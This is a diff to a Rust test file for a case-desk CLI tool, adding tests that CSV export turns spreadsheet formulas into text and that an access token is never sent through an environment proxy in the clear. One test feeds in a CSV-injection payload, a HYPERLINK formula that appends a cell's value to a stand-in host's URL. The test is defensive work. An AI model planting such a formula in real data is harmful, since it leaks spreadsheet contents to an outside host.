@@ -236,8 +236,9 @@ async fn export_writes_the_board_as_the_desk_derives_it() {
         row[..3],
         [number.as_str(), pseudonym.as_str(), "niet toegewezen"]
     );
+    // "+3 wd" would be a formula to a spreadsheet: it comes out as text.
     assert!(
-        row[3].starts_with('+') && row[3].ends_with(" wd"),
+        row[3].starts_with("'+") && row[3].ends_with(" wd"),
         "{row:?}"
     );
     assert_eq!(row[5], "—");
@@ -263,6 +264,91 @@ async fn export_writes_the_board_as_the_desk_derives_it() {
     assert_eq!(
         serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap(),
         serde_json::json!([])
+    );
+}
+
+/// An escalation reason typed as a formula opens as text in a spreadsheet.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_exported_formula_is_text() {
+    let s = TestServer::start(Backend::Sqlite).await.unwrap();
+    let id = s.planned_case(0, "jeugd", "cr-01").await;
+    let reason = r#"=HYPERLINK("http://x.example/?"&A1,"klik")"#;
+    support::expect(
+        s.act(
+            "pr-jeugd",
+            id,
+            "escalate",
+            serde_json::json!({"reason": reason}),
+        )
+        .await,
+        200,
+    )
+    .await;
+    let output = export(&s.base, &["doorzettingsmacht", "--format", "csv"]);
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let csv = stdout(&output);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let column = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "Reden")
+        .expect("a Reden column");
+    let row = reader
+        .records()
+        .next()
+        .expect("the escalated case")
+        .unwrap();
+    assert_eq!(&row[column], format!("'{reason}"));
+    assert!(
+        reader
+            .records()
+            .flatten()
+            .all(|row| row.iter().all(|cell| !cell.starts_with(['=', '@']))),
+        "{csv}"
+    );
+}
+
+/// A proxy in the environment never sees a token sent in the clear: a
+/// plain-http server (here on this machine) is reached directly.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_proxy_never_reads_a_token_in_the_clear() {
+    let s = TestServer::start(Backend::Sqlite).await.unwrap();
+    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
+    let heard = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = heard.clone();
+    tokio::spawn(async move {
+        while let Ok((_connection, _)) = proxy.accept().await {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+    let output = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
+        .args([
+            "export", "caseload", "--format", "json", "--server", &s.base,
+        ])
+        .env("REGIEDESK_TOKEN", "demo-pr-jeugd")
+        .env("HTTP_PROXY", &proxy_url)
+        .env("http_proxy", &proxy_url)
+        .env("ALL_PROXY", &proxy_url)
+        .env("HTTPS_PROXY", &proxy_url)
+        .env_remove("NO_PROXY")
+        .env_remove("no_proxy")
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert_eq!(
+        heard.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the proxy was sent the request"
     );
 }
 
